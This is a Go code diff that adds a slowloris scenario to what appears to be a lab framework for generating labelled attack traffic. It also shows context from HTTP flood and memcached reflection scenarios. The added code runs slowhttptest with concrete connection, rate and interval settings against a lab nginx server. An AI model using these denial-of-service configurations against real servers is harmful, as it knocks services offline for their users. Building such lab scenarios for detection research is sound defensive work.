@@ -65,6 +65,19 @@ func init() {
 			attack: httpFloodAttack,
 		},
 		&Scenario{
+			Name: "slowloris", Difficulty: Medium,
+			Description: fmt.Sprintf("Slow HTTP DoS (slowloris): slowhttptest opens %d connections to srv's web server, %d a second, and keeps each open by sending one more header line every %d s, never ending the request; nginx holds them until the test ends.",
+				slowlorisConns, slowlorisRate, slowlorisEvery),
+			Tools: []string{"slowhttptest"}, Classes: []string{"flood.http"}, MITRE: []string{"T1499.002"},
+			Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 30 * time.Second,
+			Notes: "srv's nginx takes 256 connections at most: the attack holds most of them; slowhttptest also checks now and then with a complete request whether the server still answers",
+			attack: func(a *attackRun) error {
+				return a.run(hostAtk, "slowhttptest", "-H", "-c", fmt.Sprint(slowlorisConns), "-r", fmt.Sprint(slowlorisRate),
+					"-i", fmt.Sprint(slowlorisEvery), "-x", "16", "-p", "3", "-l", seconds(a.duration),
+					"-u", "http://"+hostServer.IPv4().String()+"/")
+			},
+		},
+		&Scenario{
 			Name: "memcached-amplification", Difficulty: Medium,
 			Description: fmt.Sprintf("memcached reflection (2018): the attacker stores a %d KB value on srv's open memcached over TCP, then sends UDP get requests for it with ws1's address as source (%d/s); each ~%d KB answer, in %d datagrams, goes to ws1.",
 				memcachedValueLen/1000, memcachedRate, memcachedValueLen/1000, memcachedDatagrams()),
@@ -285,3 +298,11 @@ func httpFloodAttack(a *attackRun) error {
 	}
 	return a.phase("GET flood", func() error { return a.parallel(len(fns), fns) })
 }
+
+// The slowloris attack: its connections, how fast it opens them, and how
+// often each sends one more header line.
+const (
+	slowlorisConns = 200
+	slowlorisRate  = 100
+	slowlorisEvery = 5
+)
